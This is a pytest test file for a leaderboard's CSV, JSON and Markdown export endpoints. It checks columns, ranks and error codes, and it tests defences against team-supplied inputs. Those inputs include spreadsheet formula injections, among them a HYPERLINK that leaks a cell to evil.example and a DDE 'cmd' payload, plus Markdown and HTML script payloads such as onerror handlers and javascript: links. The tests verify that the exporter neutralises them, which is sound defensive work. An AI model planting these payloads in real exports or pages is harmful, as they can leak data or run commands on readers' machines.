"""CSV, JSON and Markdown downloads of any view of the board."""

import csv
import dataclasses
import html
import io
import json
import math
import re

import pytest

from leaderboard import exports, selectors
from leaderboard.selectors import BoardQuery
from tests.leaderboard.builders import entry, split_members

pytestmark = pytest.mark.django_db


@pytest.fixture
def entries(team):
    low = split_members("low")
    entry(team, agent="Ranked | piped", medals={s: low[:4] for s in range(3)})
    entry(team, agent="Listed", medals={s: low[:1] for s in range(3)}, comparable=False)


def test_the_markdown_export_has_mle_bench_readme_columns_and_footnotes(client, entries):
    response = client.get("/leaderboard/export.md?board=all&tier=low")
    assert response["Content-Disposition"] == 'attachment; filename="leaderboard-all-low.md"'
    lines = response.content.decode().splitlines()
    assert lines[1].startswith(
        "| Agent | LLM(s) used | Low == Lite (%) | Medium (%) | High (%) | All (%) | Running Time (hours) |"
    )
    assert lines[3].startswith("| Ranked \\| piped | gpt-4o | 18.2 ± 0.0 |  |  |  | 24 | 3 |")
    assert lines[4].startswith("| Listed[^1] | gpt-4o | 4.5 ± 0.0 |")
    assert lines[-1] == "[^1]: Non-comparable: a test reason."


def test_the_csv_export_is_one_row_per_entry_with_every_tier(client, entries):
    response = client.get("/leaderboard/export.csv?board=all&tier=low&sort=agent")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["agent"] for r in rows] == ["Listed", "Ranked | piped"]
    assert rows[1]["low_mean"] == f"{400 / 22:.4f}" and rows[1]["low_seeds"] == "3" and rows[1]["all_mean"] == ""
    assert rows[1]["rank"] == "1" and rows[0]["rank"] == "" and rows[0]["footnotes"] == "Non-comparable: a test reason."


def test_the_json_export_holds_the_api_rows(client, entries):
    body = json.loads(client.get("/leaderboard/export.json?board=comparable&tier=low").content)
    assert body["board"] == "comparable" and [r["agent"] for r in body["rows"]] == ["Ranked | piped"]


def test_an_unknown_export_is_404_and_a_bad_parameter_400(client, entries):
    assert client.get("/leaderboard/export.xlsx").status_code == 404
    response = client.get("/leaderboard/export.csv?tier=lite")
    assert response.status_code == 400 and b"tier must be one of" in response.content


# What a team that wants to turn the downloads against their readers writes into its manifest and team name.
HOSTILE_MANIFEST = {
    "agent": {
        "name": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
        "version": "-1+2",
        "open_source": True,
        "source_url": "https://x.example/a|b)[x](javascript:alert(1))",
    },
    "llms": ["+1+1", "@SUM(A1)", "\u200b=1+1", "a;=1+1"],
    "hardware": {"gpus": [{"model": "=2+3", "count": 1}], "vcpus": 8},
}
FORMULA_STARTS = tuple("=+-@\t\r\n")


@pytest.fixture
def hostile(team):
    team.name = "\t=cmd|' /C calc'!A0"
    team.save()
    low = split_members("low")
    entry(team, agent="Honest", medals={s: low[:2] for s in range(3)})
    return entry(team, manifest=HOSTILE_MANIFEST, medals={s: low[:4] for s in range(3)})


def test_no_csv_cell_a_team_wrote_starts_a_formula_and_the_portals_numbers_stay_numbers(client, hostile):
    raw = client.get("/leaderboard/export.csv?board=all&tier=low").content.decode()
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            if column in exports.CSV_NUMBER_COLUMNS:
                assert cell == "" or math.isfinite(float(cell)), (column, cell)
            else:
                shown = cell.lstrip().lstrip("\u200b")
                assert not cell.startswith(FORMULA_STARTS) and not shown.startswith(FORMULA_STARTS), (column, cell)
    attacked = next(row for row in rows if row["agent"] != "Honest")
    assert attacked["agent"] == "'" + HOSTILE_MANIFEST["agent"]["name"]
    assert attacked["agent_version"] == "'-1+2" and attacked["team"] == "'\t=cmd|' /C calc'!A0"
    assert attacked["llms"] == "'+1+1; @SUM(A1); \u200b=1+1; a;=1+1"  # one cell: only its start matters
    assert attacked["hardware"].startswith("1 × =2+3")
    assert attacked["low_mean"] == f"{400 / 22:.4f}" and attacked["low_seeds"] == "3"
    # Every cell quoted: a spreadsheet that splits on ';' (some locales do) cannot start a cell at "=1+1".
    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())


def test_a_negative_number_the_portal_computed_stays_a_number_but_a_teams_is_text(entries):
    shown = selectors.board_page(BoardQuery(board="all", tier="low")).rows[0]
    row = dataclasses.replace(shown, runtime_hours=-3.5, agent="-3.5", agent_version=" +1")
    written = next(csv.DictReader(io.StringIO(exports.rows_csv([row]))))
    assert written["runtime_hours"] == "-3.5" and written["agent"] == "'-3.5" and written["agent_version"] == "' +1"


def md_cells(line: str) -> list[str]:
    """A GFM table row's cells: split on the pipes that no backslash escapes."""
    assert line.startswith("|") and line.endswith("|"), line
    cells: list[str] = []
    current, chars = "", iter(line[1:-1])
    for char in chars:
        if char == "\\":
            current += char + next(chars, "")
        elif char == "|":
            cells, current = [*cells, current.strip()], ""
        else:
            current += char
    return [*cells, current.strip()]


def md_markup(cell: str) -> str:
    """What a Markdown renderer can read as markup in a cell: every backslash-escaped character blanked out."""
    return re.sub(r"\\.", "·", cell)


def md_text(cell: str) -> str:
    """The literal text a renderer shows for a cell that holds no markup."""
    return html.unescape(re.sub(r"\\(.)", r"\1", cell))


def test_the_markdown_table_keeps_its_shape_and_links_only_to_http_addresses(client, team):
    hostile_name = (
        "x\\|y\r<img src=x onerror=alert(1)> [z](javascript:alert(1)) `c` *e* https://evil.example www.evil.example"
    )
    manifest = {
        **HOSTILE_MANIFEST,
        "agent": {**HOSTILE_MANIFEST["agent"], "name": hostile_name},
        "llms": ["a\rb", "c\nd|e", "![i](https://evil.example/i.png)"],
    }
    low = split_members("low")
    entry(team, manifest=manifest, medals={s: low[:4] for s in range(3)})
    entry(team, agent="Plain", medals={s: low[:1] for s in range(3)}, comparable=False)
    lines = client.get("/leaderboard/export.md?board=all&tier=low").content.decode().splitlines()
    table = [line for line in lines if line.startswith("|")]
    header = md_cells(table[0])
    assert len(table) == 4 and all(len(md_cells(line)) == len(header) for line in table)
    attacked = md_cells(table[2])
    assert md_text(attacked[0]) == " ".join(hostile_name.split())
    assert md_text(attacked[1]) == "a b, c d|e, ![i](https://evil.example/i.png)"
    links = []
    for cell in (cell for line in table[2:] for cell in md_cells(line)):
        markup = md_markup(cell)
        assert "<" not in markup and ">" not in markup and "`" not in markup and "*" not in markup
        links += re.findall(r"\[([^\]]*)\]\(([^)]*)\)", markup)
        assert "://" not in re.sub(r"\]\([^)]*\)", "", markup) and "www." not in markup  # no autolink either
    assert links == [
        ("Yes", "https://x.example/a%7Cb%29%5Bx%5D%28javascript:alert%281%29%29"),
        ("Yes", "https://example.org/a"),
    ]
    footnotes = [line for line in lines if line.startswith("[^")]
    assert footnotes == ["[^1]: Non-comparable: a test reason."]


def test_a_source_address_that_is_not_http_is_plain_text_in_markdown(entries):
    rows = selectors.board_page(BoardQuery(board="all", tier="low")).rows
    for url in ("javascript:alert(1)", "data:text/html,x", "https://", "http://[::1", "https://x.example/ a"):
        table = exports.rows_markdown([dataclasses.replace(rows[0], source_url=url)]).splitlines()
        assert md_cells(table[2])[-1] == "Yes", url


@pytest.mark.parametrize(
    "name, value", [("page", "9223372036854775807"), ("page", "9" * 400), ("page_size", "9" * 400)]
)
def test_an_odd_page_is_a_400_naming_it_in_every_export(client, entries, name, value):
    for kind in ("csv", "md"):
        response = client.get(f"/leaderboard/export.{kind}", {name: value})
        assert response.status_code == 400 and response.content.decode().startswith(f"{name} must be a whole number")
    response = client.get("/leaderboard/export.json", {name: value})
    assert response.status_code == 400 and response.json()["error"]["details"] == {"field": name}
